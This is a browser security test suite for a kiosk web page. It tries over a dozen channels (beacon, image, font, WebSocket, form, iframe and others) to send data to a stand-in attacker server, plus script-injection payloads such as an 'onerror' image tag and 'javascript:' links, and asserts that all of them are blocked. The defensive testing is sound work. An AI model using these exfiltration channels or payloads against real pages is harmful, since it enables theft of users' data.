// What could carry a client's words out of the page: every way is shut.
import { open_sample } from '../embed/embed_test.mjs';
import { place } from '../embed/place.mjs';
import { assert, check } from '../suite.mjs';

// Each tries to reach the stranger's server with a client's word in the address.
const ways = {
  fetch: (to) => fetch(to).catch(() => undefined),
  beacon: (to) => navigator.sendBeacon(to, 'x'),
  image: (to) => (new Image().src = to),
  style: (to) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to });
    document.head.append(link);
  },
  rule: (to) => {
    const sheet = document.styleSheets[0];
    sheet.insertRule(`#title { background-image: url("${to}") }`, sheet.cssRules.length);
  },
  font: (to) => new FontFace('x', `url(${to})`).load().catch(() => undefined),
  socket: (to) => {
    try {
      new WebSocket(to.replace('http', 'ws'));
    } catch {
      // Refused at once.
    }
  },
  prefetch: (to) => {
    for (const rel of ['prefetch', 'preload', 'prerender', 'manifest', 'icon']) {
      const link = Object.assign(document.createElement('link'), { rel, href: to, as: 'image' });
      document.head.append(link);
    }
  },
  form: (to) => {
    const form = Object.assign(document.createElement('form'), { action: to, target: 'x' });
    document.body.append(form);
    form.submit();
  },
  frame: (to) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: to }));
  },
  object: (to) => {
    document.body.append(Object.assign(document.createElement('object'), { data: to }));
  },
  worker: (to) => {
    try {
      new Worker(to);
    } catch {
      // Refused at once: a script's address is no plain text here.
    }
  },
  video: (to) => {
    document.body.append(Object.assign(document.createElement('video'), { src: to }));
  },
};

for (const [name, attempt] of Object.entries(ways)) {
  check(`nothing leaves by ${name}, in the frame or at the kiosk itself (attack 58)`, async () => {
    const { stranger, kiosk } = place.world;
    const { context, frame } = await open_sample();
    const own = await context.newPage();
    await own.goto(`${kiosk}/?walk-in`);
    await own.waitForFunction(() => document.documentElement.dataset.screen === 'welcome');
    const before = stranger.asked.length;
    for (const page of [frame, own]) {
      await page.evaluate(attempt, `${stranger.url}/stolen-${name}`).catch(() => undefined);
      // What was to go has gone when the own server has answered twice since.
      await page.evaluate(async () => {
        for (let i = 0; i < 2; i++) await fetch('/agency.json', { cache: 'no-store' });
      });
    }
    assert.deepEqual(stranger.asked.slice(before), []);
    await context.close();
  });
}

/* eslint-disable no-eval, no-new-func, no-implied-eval -- These are what must not work. */
check('no text becomes a script, whoever wrote it (attacks 57, 60)', async () => {
  const page = await place.browser.newPage();
  await page.goto(`${place.world.kiosk}/?walk-in`);
  await page.waitForFunction(() => document.documentElement.dataset.screen === 'welcome');
  const ran = await page.evaluate(async () => {
    window.ran = [];
    const tries = {
      eval: () => window.eval('window.ran.push("eval")'),
      function: () => new Function('window.ran.push("function")')(),
      timeout: () => setTimeout('window.ran.push("timeout")'),
      html: () => (document.body.innerHTML = '<img src=x onerror="window.ran.push(1)">'),
      script: () => {
        const script = document.createElement('script');
        script.text = 'window.ran.push("script")';
        document.head.append(script);
      },
      attribute: () => {
        document.body.setAttribute('onclick', 'window.ran.push("attribute")');
        document.body.click();
      },
      address: () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.ran.push("address")';
        document.body.append(link);
        link.click();
      },
      policy: () =>
        window.trustedTypes
          .createPolicy('default', { createHTML: (text) => text })
          .createHTML('x') && window.ran.push('policy'),
    };
    // From a timer, because what a debugger calls may do more than the page.
    const attempt = (run) =>
      new Promise((done) => {
        setTimeout(() => {
          try {
            run();
          } catch {
            // As it should be.
          }
          setTimeout(done);
        });
      });
    for (const run of Object.values(tries)) await attempt(run);
    return window.ran;
  });
  assert.deepEqual(ran, []);
  await page.close();
});
